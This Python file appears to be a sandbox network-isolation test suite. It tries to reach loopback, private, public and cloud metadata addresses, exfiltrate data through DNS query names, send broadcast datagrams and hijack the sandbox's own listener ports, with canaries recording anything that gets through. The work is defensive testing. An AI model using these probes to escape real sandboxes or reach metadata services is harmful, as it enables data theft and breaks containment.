"""Rows N and X1: direct connections, datagrams, names, and taking over the sandbox's own listeners.

Host side: canary listeners send `canary-<hex>` to whoever connects (or answer every datagram with it) and count; the canary
resolver answers every question with a TXT record of that text and keeps the names it was asked for. None may see anything.
"""

import functools
import os
import select
import socket
import struct
import time

from evidence import CANARY, attempt, attempts, first_of, proof

MPTCP, SCTP, UDPLITE, FASTOPEN = 262, 132, 136, 0x20000000
SECONDS = 3.0


def listen_for(connection, seconds=SECONDS, pattern=CANARY):
    """Everything that comes, until the end, the time, or the evidence."""
    data, until = b"", time.monotonic() + seconds
    while not pattern.search(data) and len(data) < 1 << 20:
        left = until - time.monotonic()
        if left <= 0:
            break
        connection.settimeout(left)
        try:
            piece = connection.recv(1 << 16)
        except TimeoutError:
            break
        except ConnectionResetError:
            if not data:
                raise
            break
        if not piece:
            break
        data += piece
    return data


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address, port, protocol=0, kind=socket.SOCK_STREAM, say=b""):
    """Connects, says something, and wants the canary in return."""
    with socket.socket(family_of(address), kind, protocol) as connection:
        connection.settimeout(SECONDS)
        connection.connect((address, port))
        if say:
            connection.sendall(say)
        return proof(listen_for(connection))


def udp(address, port, protocol=0, option=None):
    with socket.socket(family_of(address), socket.SOCK_DGRAM, protocol) as sender:
        sender.settimeout(SECONDS / 4)
        if option:
            sender.setsockopt(*option)
        sender.sendto(b"attack", (address, port))
        return proof(sender.recv(1 << 16))


def speak_http(port):
    """The gateway is not ours to mark: its status line is the evidence."""
    with socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        answer = listen_for(connection)
    return answer.startswith(b"HTTP/1."), f"{answer[:60]!r}"


attempts("N1", {
    "loopback port": lambda given: tcp("127.0.0.1", given.port),
    "loopback_six port": lambda given: tcp("::1", given.port),
    "loopback_mapped port": lambda given: tcp("::ffff:127.0.0.1", given.port),
    "loopback_other port": lambda given: tcp("127.9.9.9", given.port),
    "loopback_by_name port": lambda given: tcp("localhost", given.port),
    "loopback_multipath port": lambda given: tcp("127.0.0.1", given.port, MPTCP),
    "any_address port": lambda given: tcp("0.0.0.0", given.port),
    "any_address_six port": lambda given: tcp("::", given.port),
    "gateway_data_plane gateway_port": lambda given: speak_http(given.gateway_port),
    "gateway_control_plane admin_port": lambda given: speak_http(given.admin_port),
})
METADATA = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
attempts("N2", {
    "private private port": lambda given: tcp(given.private, given.port),
    "private_six private6 port": lambda given: tcp(given.private6, given.port),
    "metadata metadata port": lambda given: tcp(given.metadata, given.port),
    "metadata_http metadata": lambda given: tcp(given.metadata, 80, say=METADATA),
})


@attempt("N3", "public")
def public_fast_open(given):
    """Data in the first packet, without connect()."""
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 3, 0))
        connection.sendto(b"attack", FASTOPEN, (given.public, 8080))
        return proof(listen_for(connection))


@attempt("N3", "public")
def public_without_waiting(given):
    """A bound source port and a connect that does not wait."""
    with socket.socket() as connection:
        connection.bind(("0.0.0.0", 0))
        connection.setblocking(False)
        connection.connect_ex((given.public, 8080))
        select.select([], [connection], [], SECONDS)
        failure = connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if failure:
            raise OSError(failure, os.strerror(failure))
        return proof(listen_for(connection))


for port in (80, 8080, 22, 3128, 5000):
    attempts("N3", {f"public_{port} public": lambda given, port=port: tcp(given.public, port)})
attempts("N3", {
    "public_six public6": lambda given: tcp(given.public6, 8080),
    "public_mapped public": lambda given: tcp("::ffff:" + given.public, 8080),
    "public_multipath public": lambda given: tcp(given.public, 8080, MPTCP),
    "public_sctp public": lambda given: tcp(given.public, 8080, SCTP),
})


def question(name, kind=16):
    """A DNS question; 16 asks for TXT."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(address, name, kind=16):
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as sender:
        sender.settimeout(SECONDS)
        sender.sendto(question(name, kind), (address, 53))
        answer = sender.recv(1 << 16)
    through, detail = proof(answer)
    return through, f"{detail}, rcode {answer[3] & 15}, {struct.unpack('>H', answer[6:8])[0]} answers"


def ask_by_stream(given):
    asked = question(given.denied)
    return tcp(given.resolver, 53, say=struct.pack(">H", len(asked)) + asked)


def resolved(name):
    """Whatever address comes is the finding."""
    return True, f"{socket.getaddrinfo(name, 443)[0][4]}"


LOCAL = ("127.0.0.1", "127.0.0.53")
DATA = "73656372657420646174.61206c6561766573."  # host side: no resolver was asked for a name with these labels
for name in ("resolver", "private", "public6", "metadata"):
    attempts("N4", {f"ask_{name} {name} denied": lambda given, name=name: ask(given[name], given.denied)})
for name, kind in {"address": 1, "address_six": 28, "any": 255, "mail": 15, "null": 10}.items():
    attempts("N4", {f"ask_for_{name} resolver denied": lambda given, kind=kind: ask(given.resolver, given.denied, kind)})
attempts("N4", {
    "ask_loopback denied": lambda given: first_of([lambda at=at: ask(at, given.denied) for at in LOCAL]),
    "ask_loopback_six denied": lambda given: ask("::1", given.denied),
    "ask_by_stream resolver denied": ask_by_stream,
    "data_in_name resolver denied": lambda given: ask(given.resolver, DATA + given.denied),
    "data_before_allowed_name resolver allowed": lambda given: ask(given.resolver, DATA + given.allowed),
    "resolve_denied denied": lambda given: resolved(given.denied),
    "resolve_data_in_name denied": lambda given: resolved(DATA + given.denied),
})
BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for name in ("public", "public6", "private", "metadata"):
    attempts("N5", {f"datagram_{name} {name} udp_port": lambda given, name=name: udp(given[name], given.udp_port)})
attempts("N5", {
    "datagram_loopback udp_port": lambda given: udp("127.0.0.1", given.udp_port),
    "datagram_quic public": lambda given: udp(given.public, 443),
    "datagram_lite public udp_port": lambda given: udp(given.public, given.udp_port, UDPLITE),
    "datagram_broadcast udp_port": lambda given: udp("255.255.255.255", given.udp_port, option=BROADCAST),
    "datagram_multicast udp_port": lambda given: udp("224.0.0.251", given.udp_port),
})


# X1: the sandbox's own listeners. Bare, ports below 1024 are refused to everybody but root.


def take_over(kind, address, port, options):
    with socket.socket(family_of(address), kind) as thief:
        for option in options:
            thief.setsockopt(socket.SOL_SOCKET, option, 1)
        if address == "::":
            thief.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        thief.bind((address, port))
        if kind == socket.SOCK_STREAM:
            thief.listen()
    return True, f"bound {address} {port}"


SHARED = {"": (), "_reuse_address": (socket.SO_REUSEADDR,), "_reuse_port": (socket.SO_REUSEPORT, socket.SO_REUSEADDR)}
for port, kind, addresses in (
    (3128, socket.SOCK_STREAM, {"": "127.0.0.1", "_any": "0.0.0.0"}),
    (443, socket.SOCK_STREAM, {"": "0.0.0.0", "_six": "::", "_narrow": "198.18.0.1"}),
    (80, socket.SOCK_STREAM, {"": "0.0.0.0", "_six": "::", "_narrow": "198.18.0.1"}),
    (53, socket.SOCK_DGRAM, {"": "0.0.0.0", "_narrow": "127.0.0.1"}),
):
    for where, address in addresses.items():
        for how, options in SHARED.items():
            thief = functools.partial(take_over, kind, address, port, options)
            attempts("X1", {f"bind_{port}{where}{how}": lambda given, thief=thief: thief()})
